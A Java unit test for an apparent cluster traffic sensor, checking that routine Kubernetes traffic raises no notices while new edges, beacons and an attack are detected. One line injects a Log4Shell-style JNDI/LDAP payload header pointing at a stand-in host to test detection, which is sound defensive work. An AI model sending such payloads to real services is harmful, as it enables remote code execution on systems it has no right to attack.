/*
 * Copyright 2026 the Podtap authors
 * SPDX-License-Identifier: Apache-2.0
 */
package io.podtap.sensor.notice;

import static org.assertj.core.api.Assertions.assertThat;

import io.podtap.sensor.Analysis;
import io.podtap.sensor.track.Tracker;
import java.time.Duration;
import java.util.Set;
import org.assertj.core.groups.Tuple;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Ten hours of what is usual in a cluster, with every detection: no notice but of what is new. */
class QuietClusterTest {

  /** Names of workloads that the traffic makes while it runs. */
  private static final class Names implements WorkloadNames {
    private WorkloadNames target = WorkloadNames.NONE;

    @Override
    public String nameOf(String address, long timeNs) {
      return target.nameOf(address, timeNs);
    }
  }

  @ParameterizedTest
  @ValueSource(longs = {1, 2})
  void saysNothingOfWhatIsUsualAndFindsAnAttackInIt(long seed) {
    Names names = new Names();
    NoticeRun run = new NoticeRun(Set.of(), names, "cluster.learning", Long.toString(2 * 3_600));
    Analysis analysis =
        new Analysis(new Tracker.Settings(100_000, false, 7), run.sink(), /* tapName= */ null);
    ClusterTraffic traffic = new ClusterTraffic(analysis, seed);
    names.target = traffic::nameOf;

    traffic.begin().release(Duration.ofHours(6), "shop/reports");
    traffic.runUntil(Duration.ofHours(12));

    assertThat(run.notices()).as("seed %d", seed).isEmpty();
    assertThat(run.count("http")).isGreaterThan(20_000);
    assertThat(run.heldBytes()).isLessThan(64 << 20);

    int web = traffic.any("shop/web");
    traffic.attack(web, traffic.any("shop/api"), "X-A: ${jndi:ldap://203.0.113.9/a}");
    traffic.http(web, traffic.any("data/postgres"), 8080, "/", 10);
    traffic.runUntil(Duration.ofHours(12).plusMinutes(1));
    analysis.close();

    assertThat(run.notices())
        .extracting(row -> row.get("note"), row -> row.get("k8s.src"), row -> row.get("k8s.dst"))
        .contains(
            Tuple.tuple("Cluster::JNDI_Lookup", "shop/web", "shop/api"),
            Tuple.tuple("Cluster::New_Edge", "shop/web", "data/postgres"))
        .hasSize(2);
  }

  /** With all that a cluster does by itself, and two releases that do something new. */
  @Test
  void saysNothingOfTheHabitsOfAClusterButOfWhatIsNew() {
    Names names = new Names();
    NoticeRun run = new NoticeRun(Set.of(), names, "cluster.learning", Long.toString(2 * 3_600));
    Analysis analysis =
        new Analysis(new Tracker.Settings(100_000, false, 7), run.sink(), /* tapName= */ null);
    ClusterTraffic traffic = new ClusterTraffic(analysis, /* seed= */ 3);
    names.target = traffic::nameOf;

    ClusterHabits habits = new ClusterHabits(traffic).begin();
    traffic.begin().release(Duration.ofHours(6), "shop/reports");
    traffic.after(Duration.ofHours(8), habits::beginToWrite);
    traffic.after(Duration.ofHours(9), habits::beginToReport);
    traffic.runUntil(Duration.ofHours(8));
    assertThat(run.notices()).isEmpty();
    traffic.runUntil(Duration.ofHours(12));
    assertThat(run.heldBytes()).isLessThan(64 << 20);
    analysis.close();

    assertThat(run.notices())
        .extracting(row -> row.get("note"), row -> row.get("k8s.src"))
        .containsOnly( // a beacon again after its suppression has ended
            Tuple.tuple("Cluster::New_Edge", "shop/api"),
            Tuple.tuple("Cluster::New_External_Destination", "shop/api"),
            Tuple.tuple("Cluster::Beacon", "shop/api"));
  }
}
